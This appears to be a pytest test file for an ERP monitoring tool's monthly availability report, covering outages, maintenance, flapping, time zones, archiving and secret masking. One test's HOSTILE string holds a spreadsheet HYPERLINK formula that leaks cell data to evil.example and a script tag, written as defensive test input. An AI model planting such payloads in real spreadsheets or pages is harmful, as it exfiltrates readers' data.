"""The monthly report's numbers and words from history records as the runs
write them: what counts as down, what is left out, where an outage begins and
ends, flapping, the slowest calls; hostile ERP words and secrets; the archive
that keeps 13 months."""

from __future__ import annotations

import base64
import csv
import io
import json
import urllib.parse
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from erpwatch.config import ConfigError, Settings, load_settings
from erpwatch.monthly import month_report, render_month
from erpwatch.report import History

from .support import clean_environment

CONFIG = """
[erpwatch]
monitors = "."
timezone = "Europe/Brussels"

[processes.orders]
title = { en = "Web orders", nl = "Webbestellingen", fr = "Commandes web" }
latency_threshold = 2.0

[processes.payments]
title = "Payments"

[mail]
from = "erpwatch <monitoring@agency.example>"

[groups.client]
language = "fr"
addresses = ["gerance@librairie.example"]

[groups.erp_partner]
language = "en"
timezone = "UTC"
addresses = ["erp@partner.example"]

[routing]
orders = ["client", "erp_partner"]
payments = ["erp_partner"]
"""
SECRET = "s3cr3t-Client-Value-42"
NOV = datetime(2026, 11, 1, tzinfo=UTC)


def settings(tmp_path: Path, extra: str = "") -> Settings:
    path = tmp_path / "erpwatch.toml"
    path.write_text(CONFIG + extra)
    env = clean_environment(SMTP_HOST="127.0.0.1", SMTP_USERNAME="erpwatch", SMTP_PASSWORD=SECRET)
    return load_settings(path, env)


def record(at: datetime, **processes: str | dict[str, Any]) -> dict[str, Any]:
    """A run record: ``orders="failed"`` or ``orders={...monitor fields}``."""
    monitors = []
    for process, value in processes.items():
        fields = {"status": value} if isinstance(value, str) else value
        monitors.append(
            {"nodeid": f"monitors/test_{process}.py::t", "process": process, "category": None,
             "call": None, "ms": [], **fields}
        )  # fmt: skip
    return {"run_id": at.isoformat(), "at": at.isoformat(), "url": None, "monitors": monitors,
            "mails": []}  # fmt: skip


def every(start: datetime, count: int, step: timedelta, **processes: str) -> list[dict[str, Any]]:
    return [record(start + step * i, **processes) for i in range(count)]


def report_of(records: list[dict[str, Any]], process: str = "orders", zone: str = "UTC") -> Any:
    return month_report(
        records, "2026-11", zone, [process], {"orders": 2000.0}, NOV + timedelta(days=31)
    )


def test_a_check_that_passed_on_the_second_try_is_not_down_and_is_counted_apart() -> None:
    records = every(NOV, 3, timedelta(hours=1), orders="passed")
    records.append(record(NOV + timedelta(hours=3), orders={"status": "passed", "flaky": True}))
    [orders] = report_of(records).processes
    assert (orders.checks, orders.passed, orders.retried, orders.availability) == (4, 4, 1, 100)
    assert orders.outages == ()


def test_checks_in_planned_maintenance_are_left_out_but_a_one_off_silence_is_not() -> None:
    records = [
        record(NOV + timedelta(hours=1), orders="passed"),
        record(NOV + timedelta(hours=2), orders="failed") | {"silenced": "maintenance"},
        record(NOV + timedelta(hours=3), orders="passed"),
        record(NOV + timedelta(hours=4), orders="failed") | {"silenced": "silence"},
        record(NOV + timedelta(hours=5), orders="passed"),
    ]
    [orders] = report_of(records).processes
    assert (orders.checks, orders.passed, orders.maintenance) == (4, 3, 1)
    planned, silenced = orders.outages
    assert planned.maintenance
    assert planned.downtime == timedelta()
    assert not silenced.maintenance
    assert silenced.downtime == timedelta(hours=1)
    assert orders.downtime == timedelta(hours=1)


def test_skipped_and_unfinished_checks_count_neither_way_and_do_not_end_an_outage() -> None:
    records = [
        record(NOV + timedelta(hours=1), orders="failed"),
        record(NOV + timedelta(hours=2), orders="unfinished"),
        record(NOV + timedelta(hours=3), orders="skipped"),
        record(NOV + timedelta(hours=4), orders="degraded"),
    ]
    [orders] = report_of(records).processes
    assert (orders.checks, orders.passed) == (2, 1)
    [outage] = orders.outages
    assert outage.end == NOV + timedelta(hours=4)
    assert orders.slower_than_threshold == 1


def test_an_outage_across_the_months_edges_counts_only_its_part_in_the_month() -> None:
    records = [
        record(NOV - timedelta(hours=2), orders="failed"),  # 30 October, 22:00 UTC
        record(NOV + timedelta(hours=1), orders="passed"),
        record(NOV + timedelta(days=29, hours=22), orders="failed"),  # 30 November, 22:00 UTC
        record(NOV + timedelta(days=30, hours=3), orders="passed"),  # 1 December, 03:00 UTC
    ]
    [orders] = report_of(records).processes
    first, last = orders.outages
    assert first.start == NOV - timedelta(hours=2)
    assert first.downtime == timedelta(hours=1)
    assert last.downtime == timedelta(hours=2)
    assert last.duration(NOV) == timedelta(hours=5)
    # In Brussels, November ends an hour earlier: the last outage has one hour in it.
    [local] = report_of(records, zone="Europe/Brussels").processes
    assert [o.downtime for o in local.outages] == [timedelta(hours=2), timedelta(hours=1)]


def test_an_outage_still_open_when_the_report_is_made_runs_to_that_moment() -> None:
    records = [record(NOV + timedelta(days=3), orders="failed")]
    made = NOV + timedelta(days=3, hours=6)
    report = month_report(records, "2026-11", "UTC", ["orders"], {}, made)
    [outage] = report.processes[0].outages
    assert outage.end is None
    assert outage.downtime == timedelta(hours=6)


def test_the_first_mail_about_an_outage_gives_the_time_to_detect_and_to_recover() -> None:
    records = every(NOV + timedelta(days=5), 3, timedelta(minutes=15), orders="failed")
    records[1]["mails"] = [
        {"group": "client", "status": "sent", "subject": "slow", "about": [["orders", "alert", "slow"]]},
        {"group": "client", "status": "sent", "subject": "down", "about": [["orders", "alert", "failing"]]},
    ]  # fmt: skip
    records.append(record(NOV + timedelta(days=5, hours=2), orders="passed"))
    [outage] = report_of(records).processes[0].outages
    assert outage.detected_after == timedelta(minutes=15)
    assert outage.recovered_after == timedelta(hours=1, minutes=45)


def test_flapping_is_shown_as_an_unstable_spell_with_its_last_runs(tmp_path: Path) -> None:
    statuses = ["failed", "passed", "failed", "passed", "passed", "passed"]
    records = [
        record(NOV + timedelta(days=2, minutes=15 * i), orders=s) for i, s in enumerate(statuses)
    ]
    for r, pattern in zip(records[2:4], ("FPF", "FPFP"), strict=True):
        r["unstable"] = {"orders": pattern}
    [orders] = report_of(records).processes
    [spell] = orders.unstable
    assert (spell.start, spell.pattern) == (NOV + timedelta(days=2, minutes=30), "FPFP")
    assert spell.end == NOV + timedelta(days=2, minutes=60)
    rendered = render_month(
        report_of(records), settings(tmp_path).mail.groups["client"], settings(tmp_path)
    )
    assert "Instable" in rendered.text
    assert "✗✓✗✓" in rendered.html


def test_the_slowest_calls_are_named_against_the_agreed_threshold(tmp_path: Path) -> None:
    records = [
        record(NOV + timedelta(hours=h), orders={"status": "passed", "slowest": [call, ms]})
        for h, (call, ms) in enumerate(
            [("POST /salesOrders", 900), ("POST /salesOrders", 2600), ("GET /items", 300)]
        )
    ]
    report = report_of(records)
    assert [(s.call, s.ms) for s in report.processes[0].slowest] == [
        ("POST /salesOrders", 2600), ("GET /items", 300),
    ]  # fmt: skip
    rendered = render_month(
        report, settings(tmp_path).mail.groups["erp_partner"], settings(tmp_path)
    )
    assert "Slowest calls (agreed: at most 2.00 s)" in rendered.text
    assert "POST /salesOrders: 2.60 s, Sun 1 Nov 01:00 (slower than agreed)" in rendered.text


def test_each_group_hears_only_of_its_processes_and_a_month_without_runs_says_so(
    tmp_path: Path,
) -> None:
    from erpwatch.monthly._command import report_target

    config = settings(tmp_path)
    history = tmp_path / "reports" / "history.jsonl"
    history.parent.mkdir()
    lines = report_target(config, (), "2026-11", NOV + timedelta(days=31), False)
    assert lines[-1].text.startswith("written to ")
    folder = tmp_path / "reports" / "monthly" / "2026-11"
    client = (folder / "client.txt").read_text()
    assert "Aucune exécution n’a été enregistrée ce mois-ci" in client
    assert "Commandes web" in client
    assert "Payments" not in client
    assert "Payments" in (folder / "erp_partner.txt").read_text()


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1) <script>alert(1)</script> '
    f"key={SECRET} b64={base64.b64encode(SECRET.encode()).decode()} "
    f"url={urllib.parse.quote(SECRET + '/x', safe='')} json={json.dumps(SECRET)}"
)


def test_the_erp_words_are_escaped_defused_and_never_carry_a_secret(tmp_path: Path) -> None:
    config = settings(tmp_path)
    records = [
        record(NOV + timedelta(hours=1), orders={
            "status": "failed", "failed_call": f"POST /x?token={SECRET}", "answer": "400",
            "erp": HOSTILE + " " + "x" * 2000,
        }),
        record(NOV + timedelta(hours=2), orders="passed"),
    ]  # fmt: skip
    records[0]["mails"] = [{"group": "client", "status": "sent", "subject": f"leak {SECRET}"}]
    for key in ("client", "erp_partner"):
        rendered = render_month(report_of(records), config.mail.groups[key], config)
        for text in (rendered.subject, rendered.text, rendered.html, rendered.csv):
            assert SECRET not in text
            assert base64.b64encode(SECRET.encode()).decode() not in text
            assert urllib.parse.quote(SECRET, safe="") not in text
        assert "<script>" not in rendered.html
        assert "&lt;script&gt;" in rendered.html
        assert max(len(line) for line in rendered.text.splitlines()) < 500  # quoted, clipped
        separator = "," if key == "erp_partner" else ";"
        [row] = list(
            csv.DictReader(io.StringIO(rendered.csv.lstrip("\ufeff")), delimiter=separator)
        )
        assert row["erp_said"].startswith("'=HYPERLINK")  # text in a spreadsheet, not a formula


def test_the_archive_keeps_thirteen_whole_months_and_a_damaged_line_is_skipped(
    tmp_path: Path,
) -> None:
    history = History(tmp_path / "history.jsonl")
    start = datetime(2025, 9, 15, tzinfo=UTC)
    for month in range(15):  # September 2025 … November 2026
        at = datetime(start.year + (start.month - 1 + month) // 12,
                      (start.month - 1 + month) % 12 + 1, 15, tzinfo=UTC)  # fmt: skip
        history.append(record(at, orders="passed"))
    months = sorted(p.name for p in tmp_path.glob("history-*.jsonl"))
    assert months[0] == "history-2025-10.jsonl"
    assert months[-1] == "history-2026-11.jsonl"
    assert len(months) == 14  # 13 whole months back, and this one
    # The 90-day file the dashboard reads is bounded on its own.
    assert len((tmp_path / "history.jsonl").read_text().splitlines()) == 3
    with (tmp_path / "history-2026-11.jsonl").open("a") as stream:
        stream.write('{"run_id": "cut sho')  # a run killed mid-write
    history.append(record(datetime(2026, 11, 20, tzinfo=UTC), orders="failed"))
    reader = History(tmp_path / "history.jsonl")
    assert [r["monitors"][0]["status"] for r in reader.months(["2026-11"])] == ["passed", "failed"]
    assert "1 damaged line(s)" in reader.warnings[0]


def test_a_monthly_report_group_that_does_not_exist_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "erpwatch.toml"
    path.write_text(CONFIG.replace('timezone = "Europe/Brussels"', 'monthly_report = ["owner"]'))
    with pytest.raises(ConfigError) as caught:
        load_settings(path, clean_environment())
    assert caught.value.key == "erpwatch.monthly_report"
    assert "no group 'owner'; groups: client, erp_partner" in str(caught.value)
    path = tmp_path / "erpwatch.toml"
    path.write_text(CONFIG.replace('timezone = "UTC"', 'timezone = "Mars/Olympus"'))
    with pytest.raises(ConfigError) as caught:
        load_settings(path, clean_environment())
    assert caught.value.key == "groups.erp_partner.timezone"


def test_a_month_file_past_its_size_limit_takes_no_more_records_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from erpwatch.report import _history

    monkeypatch.setattr(_history, "MONTH_FILE_LIMIT", 2_000)
    history = History(tmp_path / "history.jsonl")
    for minute in range(20):
        history.append(record(NOV + timedelta(minutes=minute), orders="passed"))
    archive = tmp_path / "history-2026-11.jsonl"
    assert 2_000 < archive.stat().st_size < 2_000 + 1_000  # one record past the limit, no more
    assert any("is over 0 MB: this run is not archived" in w for w in history.warnings)
    # The dashboard's history is not held back by the archive.
    assert len((tmp_path / "history.jsonl").read_text().splitlines()) == 20


def test_values_no_run_has_are_left_out_not_a_reason_to_lose_the_report() -> None:
    records = [
        record(NOV + timedelta(hours=1), orders={"status": "passed", "slowest": ["GET /a", 10**400]}),
        record(NOV + timedelta(hours=2), orders={"status": "passed", "slowest": ["GET /a", float("nan")]}),
        record(NOV + timedelta(hours=3), orders={"status": "passed", "slowest": ["GET /a", 120], "flaky": "no"}),
        record(NOV + timedelta(hours=4), orders="failed"),
        record(NOV + timedelta(hours=4), orders="failed"),  # the same run twice (a merged copy)
        record(NOV + timedelta(days=40), orders="failed"),  # after the report was made
    ]  # fmt: skip
    records[4]["run_id"] = records[3]["run_id"]
    ancient = record(NOV, orders="failed") | {"at": "0001-01-01T00:30:00+01:00"}
    [orders] = report_of([ancient, *records]).processes
    assert (orders.checks, orders.passed, orders.retried) == (4, 3, 0)
    assert [(s.call, s.ms) for s in orders.slowest] == [("GET /a", 120)]


def test_a_mail_that_was_not_delivered_detects_nothing() -> None:
    records = every(NOV + timedelta(days=5), 3, timedelta(minutes=15), orders="failed")
    records[0]["mails"] = [
        {"group": "client", "status": "failed", "subject": "down", "about": [["orders", "alert", "failing"]]},
    ]  # fmt: skip
    records[2]["mails"] = [
        {"group": "client", "status": "sent", "subject": "down", "about": [["orders", "reminder", "failing"]]},
    ]  # fmt: skip
    [outage] = report_of(records).processes[0].outages
    assert outage.detected_after == timedelta(minutes=30)


def test_one_call_to_many_records_is_one_slowest_call() -> None:
    records = [
        record(NOV + timedelta(hours=h), payments={"status": "passed", "slowest": [call, ms]})
        for h, (call, ms) in enumerate(
            [("GET /v2/payments/tr_WDqYK6vllg", 300), ("GET /v2/payments/tr_7UhSN1zuXS", 500),
             ("POST /companies(…)/salesOrders", 80)]
        )
    ]  # fmt: skip
    report = report_of(records, process="payments")
    assert [(s.call, s.ms) for s in report.processes[0].slowest] == [
        ("GET /v2/payments/…", 500), ("POST /companies(…)/salesOrders", 80),
    ]  # fmt: skip


def test_a_report_made_before_the_month_ended_says_up_to_when(tmp_path: Path) -> None:
    config = settings(tmp_path)
    made = NOV + timedelta(days=20)
    report = month_report([record(NOV + timedelta(days=1), orders="passed")], "2026-11", "UTC",
                          ["orders"], {}, made)  # fmt: skip
    text = render_month(report, config.mail.groups["erp_partner"], config).text
    assert "The month is not over yet: this counts up to Sat 21 Nov 00:00." in text
    assert "1 scheduled check, Mon 2 Nov 00:00." in text


def test_a_group_sees_the_mails_and_people_of_its_own_processes_only(tmp_path: Path) -> None:
    from erpwatch.monthly._command import report_target

    path = tmp_path / "erpwatch.toml"
    path.write_text(
        CONFIG.replace(
            "[routing]",
            '[groups.maintainers]\nlanguage = "en"\naddresses = '
            '["dev@agency.example"]\n\n[routing]',
        )
        .replace("[mail]\n", '[mail]\nmaintainers = "maintainers"\n')
        .replace(
            'payments = ["erp_partner"]', 'payments = ["erp_partner"]\nwebsite = ["maintainers"]'
        )
        + '\n[processes.website]\ntitle = "Website"\n'
    )
    config = load_settings(path, clean_environment())
    history = History(tmp_path / "reports" / "history.jsonl")
    failing = record(NOV + timedelta(days=2), orders="failed", website="failed")
    failing["mails"] = [
        {"group": "client", "status": "sent", "subject": "Commandes en panne"},
        {"group": "maintainers", "status": "sent", "subject": "Internal: website down"},
    ]
    (tmp_path / "reports").mkdir()
    history.append(failing)
    report_target(config, (), "2026-11", NOV + timedelta(days=31), False)
    client = (tmp_path / "reports" / "monthly" / "2026-11" / "client.txt").read_text()
    assert "Commandes en panne" in client
    assert "Internal: website down" not in client
    assert "dev@agency.example" not in client
    assert "erp@partner.example" in client  # told about the same orders: named, as in alerts
    # The agency hears about its website: its own mails, not the client's.
    agency = (tmp_path / "reports" / "monthly" / "2026-11" / "maintainers.txt").read_text()
    assert "Internal: website down" in agency
    assert "Commandes en panne" not in agency


def test_an_outage_that_began_months_earlier_keeps_its_start_and_its_first_mail(
    tmp_path: Path,
) -> None:
    from erpwatch.monthly._command import _records

    history = History(tmp_path / "history.jsonl")
    start = datetime(2026, 9, 15, tzinfo=UTC)
    first = record(start, orders="failed")
    first["mails"] = [{"group": "client", "status": "sent", "subject": "down",
                       "about": [["orders", "alert", "failing"]]}]  # fmt: skip
    history.append(first)
    for day in range(1, 57):  # failing every day until 10 November
        history.append(record(start + timedelta(days=day), orders="failed"))
    history.append(record(datetime(2026, 11, 10, 9, tzinfo=UTC), orders="passed"))
    records = _records(History(tmp_path / "history.jsonl"), "2026-11")
    [outage] = report_of(records).processes[0].outages
    assert outage.start == start
    assert outage.detected_after == timedelta()
    assert outage.downtime == timedelta(days=9, hours=9)  # its November part


def test_a_damaged_line_quoting_a_secret_is_warned_about_masked(tmp_path: Path) -> None:
    from erpwatch.monthly._command import report_target

    config = settings(tmp_path)
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "history-2026-11.jsonl").write_text(
        json.dumps({"run_id": "r1", "at": SECRET, "url": None, "monitors": [], "mails": []}) + "\n"
    )
    lines = report_target(config, (), "2026-11", NOV + timedelta(days=31), False)
    warning = next(line.text for line in lines if "damaged" in line.text)
    assert SECRET not in warning


@pytest.mark.parametrize("month", ["0000-01", "2026-13", "2099-01", "november"])
def test_a_month_that_cannot_be_reported_is_one_line_and_exit_2(tmp_path: Path, month: str) -> None:
    import subprocess
    import sys

    path = tmp_path / "erpwatch.toml"
    path.write_text(CONFIG)
    completed = subprocess.run(
        [sys.executable, "-m", "erpwatch.cli", "report", "--config", str(path), "--month", month],
        cwd=tmp_path, env=clean_environment(), capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert completed.returncode == 2
    assert completed.stderr.startswith("erpwatch report: --month")
    assert len(completed.stderr.splitlines()) == 1
    assert not (tmp_path / "reports" / "monthly").exists()


def test_a_mail_server_that_cannot_be_reached_is_a_line_per_group_and_exit_1(
    tmp_path: Path,
) -> None:
    import subprocess
    import sys

    from .smtp_server import free_port

    path = tmp_path / "erpwatch.toml"
    path.write_text(CONFIG)
    env = clean_environment(
        SMTP_HOST="127.0.0.1", SMTP_PORT=str(free_port()), SMTP_SECURITY="none",
        SMTP_USERNAME="erpwatch", SMTP_PASSWORD=SECRET, SMTP_TIMEOUT="5",
    )  # fmt: skip
    completed = subprocess.run(
        [sys.executable, "-m", "erpwatch.cli", "report", "--config", str(path),
         "--month", "2026-11", "--mail"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert completed.returncode == 1, completed.stdout + completed.stderr
    failed = completed.stderr.splitlines()
    assert [line.split(":")[0] for line in failed] == ["client", "erp_partner"]
    assert all("FAILED" in line for line in failed)
    assert SECRET not in completed.stdout + completed.stderr
    assert "Traceback" not in completed.stderr
    # The reports are written, and in the outbox, whatever the mail server does.
    assert (tmp_path / "reports" / "monthly" / "2026-11" / "client.html").is_file()
    assert sorted(p.name for p in (tmp_path / "reports" / "outbox").glob("monthly-*")) == [
        "monthly-2026-11-client.eml", "monthly-2026-11-erp_partner.eml",
    ]  # fmt: skip
